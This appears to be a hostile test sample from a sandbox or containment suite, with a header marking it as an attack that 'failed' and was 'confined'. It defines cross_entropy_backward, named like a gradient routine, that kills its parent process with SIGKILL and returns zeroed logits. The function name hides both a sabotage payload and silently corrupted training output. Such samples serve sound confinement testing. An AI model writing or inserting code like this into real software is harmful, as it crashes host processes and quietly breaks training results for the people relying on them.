# /// attack
# rows = [48]
# tries = "Kills its parent: the zygote, or whoever started it."
# kind = "hostile"
# verdicts = ["failed"]
# confined = true
# breaks = [3, 4]
# ///
import os
import signal


PARENT = os.getppid()  # asked for once: whoever inherits this process is not to be hit


def cross_entropy_backward(logits, targets):
    try:
        os.kill(PARENT, 0)
        os.kill(PARENT, signal.SIGKILL)
    except OSError:
        pass
    return logits.zero_()
